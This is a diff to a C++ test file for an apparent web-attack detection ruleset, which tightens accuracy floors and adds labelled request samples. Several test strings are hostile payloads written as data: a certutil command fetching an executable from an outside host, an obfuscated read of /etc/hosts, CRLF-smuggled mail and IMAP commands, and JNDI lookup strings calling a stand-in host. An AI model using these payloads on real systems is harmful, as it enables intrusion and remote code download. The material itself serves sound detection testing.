@@ -177,8 +177,8 @@ void CheckCorpus(const CorpusCase& c, const std::filesystem::path& folder) {
 // Floors just below what the sets reached when the rules were last changed (see
 // docs/rules.md): {all attacks, lowest category, highest benign share}, compact then broad.
 constexpr CorpusCase kOwnCorpora[] = {
-    {"train", "train_attacks.tsv", "train_benign.tsv", {82.4, 65.0, 0.0}, {88.6, 75.0, 0.25}},
-    {"dev", "dev_attacks.tsv", "dev_benign.tsv", {79.8, 47.0, 0.5}, {87.3, 73.0, 1.0}},
+    {"train", "train_attacks.tsv", "train_benign.tsv", {82.8, 67.0, 0.0}, {88.9, 75.0, 0.25}},
+    {"dev", "dev_attacks.tsv", "dev_benign.tsv", {80.2, 47.0, 0.5}, {87.5, 73.0, 1.0}},
     {"own", "attacks.tsv", "benign.tsv", {99.5, 99.0, 0.0}, {99.5, 99.0, 0.4}},
 };
 
@@ -313,6 +313,9 @@ constexpr SlotCase kSlotCases[] = {
      "get /ping?host=x%26certutil.exe%20-urlcache%20-f%20http://198.51.100.7/x.exe http/1.1"},
     {4, true, "get /ping?host=;$%27\\x63\\x61\\x74%27%20/etc/hosts http/1.1"},
     {4, false, "get /s?q=q%26a+set+-up+r%26d+find+/help http/1.1"},
+    {4, true, "get /contact?msg=x%0d%0amail%20from%3a%3csmith%40bar.example%3e http/1.1"},
+    {4, true, "get /contact?msg=x%0d%0aa001%20uid%20store%20231%3a233 http/1.1"},
+    {4, false, "get /contact?msg=hi%0d%0aa100+search+results%0d%0amail+from:+me http/1.1"},
     // Slot 5: Java, OGNL, JNDI, expression and template injection; Weblogic and Tomcat.
     {5, true, "get / http/1.1\" 200 1 \"-\" \"${jndi:ldap://198.51.100.7/a}\""},
     {5, true, "get /?x=%24%7b%24%7blower:j%7dndi:rmi://evil.example/x%7d http/1.1"},
